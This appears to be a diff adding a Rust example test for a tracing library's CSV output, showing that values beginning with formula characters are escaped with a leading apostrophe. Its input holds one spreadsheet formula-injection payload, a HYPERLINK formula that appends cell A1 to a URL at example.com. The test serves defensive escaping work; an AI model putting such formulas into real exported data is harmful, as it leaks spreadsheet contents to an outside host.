@@ -1,0 +1,22 @@
+//! A text that a spreadsheet would compute: in CSV it gets a `'` in front, which tells spreadsheets that it is a text.
+
+use tracing_handlers::Output;
+use tracing_handlers::format::{Csv, csv::Column};
+use tracing_handlers::sink::Memory;
+
+use crate::{Recipe, logged};
+
+pub const RECIPE: Recipe = Recipe { name: "formula", about: "no formula gets into a spreadsheet", make, shows: SHOWS };
+
+fn make() -> String {
+    let memory = Memory::new();
+    let columns = [Column::Message, Column::field("user"), Column::field("change")];
+    logged(Output::new(Csv::new().columns(columns), memory.clone()), || {
+        tracing::info!(user = "=HYPERLINK(\"http://example.com/?\"&A1,\"more\")", change = -5, "-2 pieces");
+    });
+    memory.text()
+}
+
+const SHOWS: &str = r#"
+'-2 pieces,"'=HYPERLINK(""http://example.com/?""&A1,""more"")",-5
+"#;
